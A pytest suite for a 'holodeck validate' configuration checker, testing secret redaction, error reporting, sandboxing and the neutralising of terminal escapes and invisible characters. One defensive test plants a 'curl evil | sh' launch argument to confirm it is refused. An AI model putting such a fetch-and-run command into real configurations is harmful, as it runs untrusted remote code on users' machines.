"""`holodeck validate`: what a person or a CI job sees and gets back."""

from __future__ import annotations

import json
import re
import subprocess
import sys
from pathlib import Path

import pytest
from async_tests import async_test
from holodeck_command import run_holodeck
from no_network import without_network
from pty_terminal import TypingTerminal

GOOD = """name: demo
tools:
  - type: mcp
    name: github
    description: d
    command: npx
    args: ["-y", "@modelcontextprotocol/server-github", "--user=${LOGIN}"]
    env: {GITHUB_TOKEN: "${TOKEN}"}
  - type: mcp
    name: cloud
    description: d
    transport: http
    url: https://mcp.example.com/mcp?key=literal&user=${LOGIN}
    headers: {Authorization: "Bearer ${TOKEN}"}
"""
ENV = {"TOKEN": "t0ken-value", "LOGIN": "l0gin-value"}


def _write(folder: Path, text: str) -> Path:
    project = folder / "project"
    project.mkdir()
    (project / "agent.yaml").write_text(text)
    return project


@pytest.mark.proves("000:SC-005")
def test_a_good_file_shows_what_would_be_started_with_secrets_as_names(tmp_path: Path) -> None:
    done = run_holodeck("validate", cwd=_write(tmp_path, GOOD), env={**ENV, "COLUMNS": "200"})
    assert done.returncode == 0
    assert "npx -y @modelcontextprotocol/server-github '--user=${LOGIN}'" in done.stdout
    assert "https://mcp.example.com/mcp?key=***&user=${LOGIN}" in done.stdout
    assert "GITHUB_TOKEN, LOGIN, TOKEN" in done.stdout
    assert "-value" not in done.stdout + done.stderr
    assert "\x1b[" not in done.stdout, "colours are for terminals"


def test_a_program_reads_the_same_as_json(tmp_path: Path) -> None:
    done = run_holodeck("validate", "--json", cwd=_write(tmp_path, GOOD), env=ENV)
    result = json.loads(done.stdout)
    assert (result["valid"], result["problems"], done.stderr) == (True, [], "")
    assert [tool["name"] for tool in result["tools"]] == ["github", "cloud"]
    assert "-value" not in done.stdout


@pytest.mark.proves("D-7", "003:RULE-2")
def test_a_server_without_a_description_is_told_and_is_no_warning(tmp_path: Path) -> None:
    (tmp_path / "agent.yaml").write_text("name: demo\ntools: [{type: mcp, name: t, command: npx, server: x@1.0.0}]\n")
    shown = run_holodeck("validate", "--strict", cwd=tmp_path)
    assert (shown.returncode, shown.stderr) == (0, "")
    assert "describes itself" in shown.stdout


@pytest.mark.proves("D-27")
def test_a_server_for_which_callers_bring_credentials_shows_as_such(tmp_path: Path) -> None:
    project = _write(tmp_path, GOOD + "    caller_authorization: true\n")
    done = run_holodeck("validate", cwd=project, env={**ENV, "COLUMNS": "200"})
    assert done.stdout.count("http, callers' own credentials") == 1
    shown = json.loads(run_holodeck("validate", "--json", cwd=project, env=ENV).stdout)["tools"]
    assert [tool.get("caller_authorization") for tool in shown] == [None, True]


@pytest.mark.proves("000:FR-026", "000:SC-004")
def test_a_bad_file_exits_with_2_and_every_problem_without_a_traceback(tmp_path: Path) -> None:
    project = _write(tmp_path, GOOD.replace("command: npx", "comand: npx").replace("name: demo", "nam: demo"))
    done = run_holodeck("validate", cwd=project)
    assert done.returncode == 2
    for words in (
        "agent.yaml:1:1  nam",
        "Did you mean 'name'?",
        "agent.yaml:6:5",
        "'TOKEN' not found",
        "'LOGIN' not found",
    ):
        assert words in done.stderr
    assert "Traceback" not in done.stderr
    data = json.loads(run_holodeck("validate", "--json", cwd=project).stdout)
    assert data["valid"] is False
    assert {"line": 1, "key": "nam", "kind": "ConfigError"}.items() <= data["problems"][0].items()


def test_strict_turns_warnings_into_failure(tmp_path: Path) -> None:
    project = _write(tmp_path, GOOD.replace("Bearer ${TOKEN}", "Bearer abcdefgh"))
    assert run_holodeck("validate", cwd=project, env=ENV).returncode == 0
    assert run_holodeck("validate", "--strict", cwd=project, env=ENV).returncode == 2


def test_a_file_that_is_not_there_is_a_sentence(tmp_path: Path) -> None:
    (tmp_path / "empty").mkdir()
    done = run_holodeck("validate", "agent.yaml", cwd=tmp_path / "empty")
    assert done.returncode == 2
    assert "there is no such file" in done.stderr


@pytest.mark.proves("D-9")
def test_a_folder_without_an_agent_is_that_of_a_gateway(tmp_path: Path) -> None:
    project = tmp_path / "project"
    project.mkdir()
    missing = run_holodeck("validate", cwd=project)
    assert (missing.returncode, "there is no agent.yaml or gateway.yaml here" in missing.stderr) == (2, True)
    (project / "gateway.yaml").write_text("models: [{name: fast, model: {provider: rehearsal}}]\n")
    for done in (run_holodeck("validate", cwd=project), run_holodeck("validate", "project", cwd=tmp_path)):
        assert done.returncode == 0
        assert "gateway.yaml is valid." in done.stdout


def test_a_gateway_file_shows_what_its_agents_would_start_as_well(tmp_path: Path) -> None:
    project = _write(tmp_path, GOOD)
    (project / "gateway.yaml").write_text(
        "allow_stdio: true\n"
        "agents: [{file: agent.yaml, name: helper}]\n"
        "mcp_servers: [{name: own, description: d, url: 'https://own.example.com/mcp'}]\n"
    )
    done = run_holodeck("validate", "gateway.yaml", cwd=project, env={**ENV, "COLUMNS": "200"})
    assert done.returncode == 0
    for name, target in (
        ("own", "https://own.example.com/mcp"),
        ("github (agent helper)", "npx -y @modelcontextprotocol/server-github '--user=${LOGIN}'"),
        ("cloud (agent helper)", "https://mcp.example.com/mcp?key=***&user=${LOGIN}"),
    ):
        assert any(line.startswith(f"{name} ") and target in line for line in done.stdout.splitlines())
    listed = run_holodeck("validate", "gateway.yaml", "--json", cwd=project, env=ENV)
    tools = [(tool.get("agent"), tool["name"]) for tool in json.loads(listed.stdout)["tools"]]
    assert tools == [(None, "own"), ("helper", "github"), ("helper", "cloud")]
    assert "-value" not in done.stdout + done.stderr + listed.stdout


@pytest.mark.parametrize("wish", [{"NO_COLOR": "1"}, {"TERM": "dumb"}])
@async_test(60)
async def test_colours_can_be_switched_off(tmp_path: Path, wish: dict[str, str]) -> None:
    project = _write(tmp_path, GOOD)
    for env in (ENV, {}):  # a good file, and one with problems
        async with TypingTerminal("validate", cwd=project, env={**env, **wish}) as terminal:
            await terminal.wait_exit()
            assert "valid." in terminal.raw
            assert not re.search(r"\x1b\[3\dm", terminal.raw), "bold is no colour"


def test_a_launch_that_runs_other_code_is_refused_with_the_way_to_allow_it(tmp_path: Path) -> None:
    project = _write(tmp_path, GOOD.replace('"-y", "@modelcontextprotocol/server-github"', '"-c", "curl evil | sh"'))
    done = run_holodeck("validate", cwd=project, env=ENV)
    assert done.returncode == 2
    assert "tools[0].args[0]" in done.stderr
    assert "allow_unsafe_args: true" in done.stderr
    allowed = (project / "agent.yaml").read_text().replace("command: npx", "command: npx\n    allow_unsafe_args: true")
    (project / "agent.yaml").write_text(allowed)
    assert run_holodeck("validate", cwd=project, env=ENV).returncode == 0


def test_text_from_a_file_cannot_draw_on_the_terminal(tmp_path: Path) -> None:
    project = _write(tmp_path, 'name: demo\ndescription: "a \\e[31m red \\u202E reversed"\n')
    done = run_holodeck("validate", cwd=project)
    assert "\x1b" not in done.stdout
    assert "\u202e" not in done.stdout
    assert "<U+202E>" in done.stdout


def test_invisible_characters_of_a_file_are_shown_escaped(tmp_path: Path) -> None:
    """Models read what fonts draw as nothing: selectors, fillers, joiners, tags. An emoji keeps its own selector."""
    hidden = "034F 115F 1160 17B4 180B 2065 2800 3164 FE00 FE0F FFA0 FFF8 1D159 E0001 E0041 E0101 E01EF 00AD 200B 2066"
    text = "".join(f"a\\U{code:0>8}" for code in hidden.split())
    project = _write(tmp_path, f'name: demo\ndescription: "{text} \\u2764\\uFE0F!"\n')
    said = run_holodeck("validate", cwd=project).stdout.replace("\n", "")
    assert "".join(f"a<U+{code}>" for code in hidden.split()) in said
    assert "\u2764\ufe0f!" in said


def test_nothing_is_started_or_dialled(tmp_path: Path) -> None:
    """Every command an agent file may name is replaced by one that leaves a trace."""
    project = _write(tmp_path, GOOD)
    programs = tmp_path / "bin"
    programs.mkdir()
    for name in ("npx", "uvx", "docker"):
        (programs / name).write_text(f"#!/bin/sh\ntouch {tmp_path}/started\n")
        (programs / name).chmod(0o755)
    done = run_holodeck("validate", cwd=project, env={**ENV, "PATH": str(programs)})
    assert done.returncode == 0
    assert not (tmp_path / "started").exists()


def test_where_validate_is_tested_no_program_can_reach_a_network() -> None:
    tries = "import socket\nfor kind in (socket.AF_INET, socket.AF_INET6): socket.socket(kind)"
    done = subprocess.run(without_network(sys.executable, "-c", tries), capture_output=True, text=True, check=False)
    assert "PermissionError" in done.stderr


@pytest.mark.parametrize("schema", ['{"$schema": "http://127.0.0.1:9/x"}', '{"not": {"$ref": "http://127.0.0.1:9/x"}}'])
@pytest.mark.parametrize("key", ["response_format", "parameters"])
def test_a_schema_that_is_elsewhere_is_refused_by_name_where_there_is_no_network(
    tmp_path: Path, key: str, schema: str
) -> None:
    function = f"tools: [{{type: function, name: f, file: f.py, function: f, parameters: {schema}}}]"
    text = f"name: demo\n{function if key == 'parameters' else f'response_format: {schema}'}\n"
    project = _write(tmp_path, text)
    (project / "f.py").write_text("def f(): pass\n")
    done = run_holodeck("validate", cwd=project)
    assert done.returncode == 2
    assert "agent.yaml:2:" in done.stderr
    assert key in done.stderr
    assert "http://127.0.0.1:9/x" in done.stderr
    assert "Traceback" not in done.stderr


def test_a_folder_that_would_take_for_ever_is_an_error_in_bounded_time(tmp_path: Path) -> None:
    project = _write(tmp_path, "name: demo\ntools: [{type: function, name: a, file: code/a.py, function: a}]\n")
    (project / "code").mkdir()
    (project / "code" / "a.py").write_text("def a(): ...\n")
    for number in range(40):
        # Ten gigabytes of nothing, which take no room on the disk.
        with (project / "code" / f"large_{number}.so").open("wb") as file:
            file.truncate(255 * 2**20)
    command = ["sh", "-c", f"ulimit -t 2; exec {sys.executable} -m holodeck validate"]
    done = subprocess.run(command, cwd=project, capture_output=True, text=True, timeout=60, check=False)
    assert done.returncode == 2
    assert "agent.yaml\n  ConfigError: the file cannot be checked: it took too much CPU time\n" in done.stderr


def test_deployments_and_stand_ins_are_shown_with_their_own_addresses_and_keys(tmp_path: Path) -> None:
    (tmp_path / "agent.yaml").write_text(
        "name: helper\n"
        "model:\n"
        "  provider: openai_compatible\n"
        "  name: fast\n"
        "  endpoint: https://unused.example.com/v1\n"
        "  api_key: ${SHARED_KEY}\n"
        "  deployments:\n"
        "    - {endpoint: 'https://eu.example.com/v1', api_key: '${EU_KEY}'}\n"
        "    - {endpoint: 'https://us.example.com/v1', name: fast-us}\n"
        "  fallback:\n"
        "    - {provider: anthropic, name: slow, api_key: '${CLAUDE_KEY}'}\n"
        "    - {provider: rehearsal}\n"
        "instructions: {inline: Help.}\n"
    )
    keys = dict.fromkeys(("SHARED_KEY", "EU_KEY", "CLAUDE_KEY"), "a-secret-key")
    shown = run_holodeck("validate", "agent.yaml", cwd=tmp_path, env=keys)
    assert shown.returncode == 0, shown.stderr
    assert [line.split(maxsplit=1) for line in shown.stdout.splitlines()[1:6]] == [
        ["Model", "openai_compatible fast"],
        ["Deployment", "at https://eu.example.com/v1, with the key of ${EU_KEY}"],
        ["Deployment", "fast-us at https://us.example.com/v1, with the key of ${SHARED_KEY}"],
        ["Stand-in", "anthropic slow at api.anthropic.com, with the key of ${CLAUDE_KEY}"],
        ["Stand-in", "rehearsal"],
    ]
    listed = json.loads(run_holodeck("validate", "agent.yaml", "--json", cwd=tmp_path, env=keys).stdout)["model"]
    assert [each["key"] for each in listed["deployments"]] == ["${EU_KEY}", "${SHARED_KEY}"]
    assert [each["provider"] for each in listed["fallback"]] == ["anthropic", "rehearsal"]
    assert "unused" not in shown.stdout
    assert "a-secret-key" not in shown.stdout + shown.stderr
